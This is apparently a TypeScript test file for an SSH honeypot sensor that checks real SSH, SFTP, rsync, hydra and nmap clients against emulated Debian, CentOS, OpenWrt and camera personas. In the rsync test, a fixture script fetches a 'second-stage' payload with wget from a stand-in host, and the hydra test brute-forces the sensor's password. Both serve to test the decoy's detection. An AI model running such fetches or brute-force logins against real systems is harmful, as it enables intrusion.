import { execFile } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, expect, test } from 'vitest'
import type { PersonaName } from '../packages/sensor/src/personas/index.ts'
import { testSensor } from '../packages/sensor/src/testing.ts'
import { has } from './browser.ts'

// SSH clients of other people against personas other than the first: newer OpenSSH, and dropbear on a camera.

const run = promisify(execFile)
const folder = mkdtempSync(join(tmpdir(), 'skep-clients-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

async function device(persona: PersonaName) {
  const lab = await testSensor({}, { persona })
  const [pair] = lab.sensor.persona.credentials
  const [user, password, port] = [pair?.user ?? '', pair?.password ?? '', String(lab.port('ssh'))]
  const quiet = [
    'LogLevel=ERROR',
    'StrictHostKeyChecking=no',
    'UserKnownHostsFile=/dev/null',
    'PubkeyAuthentication=no',
  ]
  const ssh = async (more: readonly string[], line: string): Promise<string> => {
    const options = quiet.flatMap((one) => ['-o', one])
    return (await run('sshpass', ['-p', password, 'ssh', ...options, '-p', port, ...more, `${user}@127.0.0.1`, line]))
      .stdout
  }
  return { lab, user, password, port, ssh }
}

test.runIf(has('ssh') && has('sshpass'))(
  'OpenSSH with every release: what is offered works, the exchange against quantum computers too',
  async () => {
    const { stdout: known } = await run('ssh', ['-Q', 'kex'])
    for (const persona of [
      'debian-12',
      'ubuntu-20.04',
      'ubuntu-22.04',
      'ubuntu-24.04',
      'centos-7',
      'openwrt',
      'camera',
    ] as const) {
      const { lab, ssh } = await device(persona)
      await using _ = lab
      const { kex, ciphers, macs } = lab.sensor.persona.ssh
      const mine = kex.filter((name) => known.split('\n').includes(name))
      expect(mine.length, persona).toBeGreaterThan(4)
      const { stdout: sealed } = await run('ssh', ['-Q', 'cipher'])
      const { stdout: summed } = await run('ssh', ['-Q', 'mac'])
      const offers = [
        ...mine.map((name) => ['-o', `KexAlgorithms=${name}`]),
        ...ciphers.filter((name) => sealed.split('\n').includes(name)).map((name) => ['-c', name]),
        ...macs.filter((name) => summed.split('\n').includes(name)).map((name) => ['-c', 'aes256-ctr', '-m', name]),
        ['-C'],
        ['-o', 'RekeyLimit=16K'],
      ]
      // Of one address, dropbear takes five that have not signed in.
      const left = offers.values()
      await Promise.all(
        [1, 2, 3, 4].map(async () => {
          for (const more of left)
            expect(await ssh(more, 'seq 1 9000 | tail -1'), `${persona} ${more.join(' ')}`).toBe('9000\n')
        }),
      )
      expect(await ssh([], 'uname -m')).toBe(
        persona === 'camera' ? 'armv7l\n' : persona === 'openwrt' ? 'mips\n' : 'x86_64\n',
      )
      expect(lab.log).toEqual([])
    }
  },
  180_000,
)

test.runIf(has('ssh') && has('sshpass'))(
  'OpenSSH is told that nothing is read any more only while its own end is open',
  async () => {
    const { lab, user, password, port } = await device('debian-12')
    await using _ = lab
    const line = `sshpass -p '${password}' ssh -vv -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -p ${port} ${user}@127.0.0.1`
    const heard = async (input: string, command: string): Promise<boolean> =>
      (await run('sh', ['-c', `${input} ${line} ${command}`])).stderr.includes('rtype eow@openssh.com')
    expect(await heard('sleep 3 |', 'echo')).toBe(true)
    // cat ends only when the client's end of file has come: without it, which of both is first is a race.
    expect(await heard('</dev/null', 'cat')).toBe(false)
    expect(lab.log).toEqual([])
  },
  60_000,
)

test.runIf(has('dbclient'))(
  "dropbear's client signs in to OpenSSH and to dropbear",
  async () => {
    for (const persona of ['debian-12', 'camera'] as const) {
      const { lab, user, password, port } = await device(persona)
      await using _ = lab
      const { stdout } = await run('dbclient', ['-y', '-y', '-p', port, `${user}@127.0.0.1`, 'echo $((6*7)); id -u'], {
        env: { ...process.env, HOME: folder, DROPBEAR_PASSWORD: password },
      })
      expect(stdout).toBe('42\n0\n')
    }
  },
  60_000,
)

test.runIf(has('plink') && has('ssh-keyscan'))(
  "PuTTY's plink and pscp, by SFTP and the old way",
  async () => {
    const { lab, user, password, port } = await device('debian-12')
    await using _ = lab
    const keys = join(folder, 'keys')
    writeFileSync(keys, (await run('ssh-keyscan', ['-p', port, '-t', 'ed25519', '127.0.0.1'])).stdout)
    const hostKey = (await run('ssh-keygen', ['-lf', keys])).stdout.split(' ')[1] ?? ''
    const common = ['-batch', '-P', port, '-pw', password, '-hostkey', hostKey]
    expect((await run('plink', ['-ssh', ...common, `${user}@127.0.0.1`, 'echo plink'])).stdout).toBe('plink\n')
    const [there, back] = [join(folder, 'there'), join(folder, 'back')]
    const bytes = Buffer.from(Array.from({ length: 200_000 }, (_, i) => (i * 17) % 253))
    writeFileSync(there, bytes)
    for (const form of ['-sftp', '-scp']) {
      await run('pscp', [form, ...common, there, `${user}@127.0.0.1:/tmp/${form}`])
      await run('pscp', [form, ...common, `${user}@127.0.0.1:/tmp/${form}`, back])
      expect(readFileSync(back).equals(bytes), form).toBe(true)
    }
  },
  60_000,
)

test.runIf(has('plink') && has('ssh-keyscan'))(
  'PuTTY with the Blowfish that OpenSSL has no more, to a daemon of old',
  async () => {
    const { lab, user, password, port } = await device('centos-7')
    await using _ = lab
    const home = mkdtempSync(join(folder, 'home-'))
    mkdirSync(join(home, '.putty', 'sessions'), { recursive: true })
    writeFileSync(join(home, '.putty', 'sessions', 'old'), 'Cipher=blowfish,WARN\n')
    const keys = join(home, 'keys')
    writeFileSync(keys, (await run('ssh-keyscan', ['-p', port, '-t', 'ed25519', '127.0.0.1'])).stdout)
    const hostKey = (await run('ssh-keygen', ['-lf', keys])).stdout.split(' ')[1] ?? ''
    const { stdout, stderr } = await run(
      'plink',
      [
        '-load',
        'old',
        '-v',
        '-batch',
        '-P',
        port,
        '-pw',
        password,
        '-hostkey',
        hostKey,
        `${user}@127.0.0.1`,
        'seq 1 9000 | tail -1',
      ],
      { env: { ...process.env, HOME: home } },
    )
    expect(stdout).toBe('9000\n')
    expect(stderr).toContain('Blowfish')
    expect(lab.log).toEqual([])
  },
  60_000,
)

const sftpInCurl = has('curl') && (await run('curl', ['-V']).then(({ stdout }) => stdout.includes('sftp')))
test.runIf(sftpInCurl)(
  'libssh2, within curl, takes a file and leaves one',
  async () => {
    const { lab, user, password, port } = await device('ubuntu-22.04')
    await using _ = lab
    const at = (path: string) => ['-sk', '--user', `${user}:${password}`, `sftp://127.0.0.1:${port}${path}`]
    expect((await run('curl', at('/etc/hostname'))).stdout).toBe(`${lab.sensor.persona.machine.hostname}\n`)
    const file = join(folder, 'left')
    writeFileSync(file, 'left by curl\n')
    await run('curl', ['-T', file, ...at('/tmp/left')])
    const stored = await lab.until('artifact.stored')
    expect(stored.data.name).toBe('/tmp/left')
  },
  60_000,
)

test.runIf(has('rsync') && has('ssh') && has('sshpass'))(
  'rsync brings files and fetches them, packed and not, and what it brought is kept',
  async () => {
    const { lab, user, password, port } = await device('debian-11')
    await using _ = lab
    const [mine, back] = [join(folder, 'rsync', 'mine'), join(folder, 'rsync', 'back')]
    mkdirSync(join(mine, 'sub'), { recursive: true })
    writeFileSync(join(mine, 'a.sh'), '#!/bin/sh\nwget http://192.0.2.5/second-stage\n')
    writeFileSync(join(mine, 'sub', 'large'), Buffer.alloc(200_000, 'skep'))
    const quiet = '-o LogLevel=ERROR -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null'
    const rsync = (...args: string[]) =>
      run('rsync', ['-e', `sshpass -p ${password} ssh ${quiet} -p ${port}`, ...args], { cwd: folder })
    const there = `${user}@127.0.0.1:/tmp`
    await rsync('-a', `${mine}/`, `${there}/brought`)
    await rsync('-rz', `${mine}/`, `${there}/packed`)
    expect((await rsync('-ai', `${mine}/`, `${there}/brought`)).stdout).toBe('')
    await rsync('-az', `${there}/brought/`, back)
    await rsync('-a', `${there}/packed/sub`, back)
    for (const name of ['a.sh', join('sub', 'large')])
      expect(readFileSync(join(back, name)).equals(readFileSync(join(mine, name))), name).toBe(true)
    await expect(rsync('-a', `${there}/nosuch`, back)).rejects.toThrow(/No such file or directory/)
    const events = await lab.events()
    const kept = events.flatMap((event) => (event.kind === 'artifact.stored' ? [event.data.name] : []))
    expect(kept).toEqual(expect.arrayContaining(['/tmp/brought/a.sh', '/tmp/packed/sub/large']))
    expect(events.some((event) => event.kind === 'payload.seen' && event.data.url.includes('second-stage'))).toBe(true)
    expect(lab.log).toEqual([])
  },
  60_000,
)

test.runIf(has('skep-go-client'))(
  "Go's x/crypto is refused, signs in, runs and feeds programs, and keys change in the middle of it",
  async () => {
    for (const persona of ['debian-12', 'centos-7', 'camera'] as const) {
      const { lab, user, password, port } = await device(persona)
      await using _ = lab
      const { stdout } = await run('skep-go-client', [`127.0.0.1:${port}`, user, password])
      const { ident } = lab.sensor.persona.ssh
      expect(stdout.split('\n'), persona).toEqual([
        // What nobody offers is not asked for: passwords, and with dropbear and Debian no questions.
        expect.stringMatching(
          /^refused: ssh: handshake failed: ssh: unable to authenticate, attempted methods \[none password/,
        ),
        `server: ${ident}`,
        'banner: ',
        'exec: 20000',
        user,
        'stdin: 262144',
        'large: 348894',
        'status: Process exited with status 7',
        'screen: true',
        'left: Process exited with status 3',
        ...Array.from({ length: 3 }, () => 'alive: false <nil>'),
        expect.stringMatching(/^forward: /),
        '',
      ])
      const [hello] = (await lab.events()).filter(({ kind }) => kind === 'client.hello')
      expect(hello?.data).toMatchObject({ ident: 'SSH-2.0-Go' })
      expect(lab.log).toEqual([])
    }
  },
  60_000,
)

test.runIf(has('hydra'))(
  'hydra finds the weak pair, and every try is told',
  // libssh gives a connection ten seconds, which a machine that runs all the other tests as well may take.
  { timeout: 90_000, retry: 2 },
  async () => {
    const { lab, user, password, port } = await device('debian-12')
    await using _ = lab
    const list = join(folder, 'passwords')
    writeFileSync(list, `no-such-1\nno-such-2\n${password}\n`)
    const { stdout } = await run('hydra', ['-l', user, '-P', list, '-s', port, '-t', '2', '127.0.0.1', 'ssh'], {
      cwd: folder,
    })
    expect(stdout).toContain(`login: ${user}   password: ${password}`)
    const tried = (await lab.events()).flatMap((event) =>
      event.kind === 'auth.attempt' && event.data.secret !== undefined ? [event.data.secret] : [],
    )
    expect(tried).toEqual(expect.arrayContaining(['no-such-1', 'no-such-2', password]))
  },
)

test.runIf(has('nmap'))(
  'nmap takes them for what they say they are',
  async () => {
    const wanted = {
      debian: 'OpenSSH 8.4p1 Debian 5+deb11u3 (protocol 2.0)',
      'debian-12': 'OpenSSH 9.2p1 Debian 2+deb12u10 (protocol 2.0)',
      'ubuntu-24.04': 'OpenSSH 9.6p1 Ubuntu 3ubuntu13.20 (Ubuntu Linux; protocol 2.0)',
      camera: 'Dropbear sshd 2019.78 (protocol 2.0)',
    } as const
    for (const [persona, product] of Object.entries(wanted)) {
      const { lab, port } = await device(persona as PersonaName)
      await using _ = lab
      const { stdout } = await run('nmap', ['-Pn', '-n', '-sV', '-p', port, '127.0.0.1'])
      expect(stdout).toContain(product)
      expect(stdout).not.toMatch(/honeypot|cowrie|kippo/i)
    }
  },
  180_000,
)
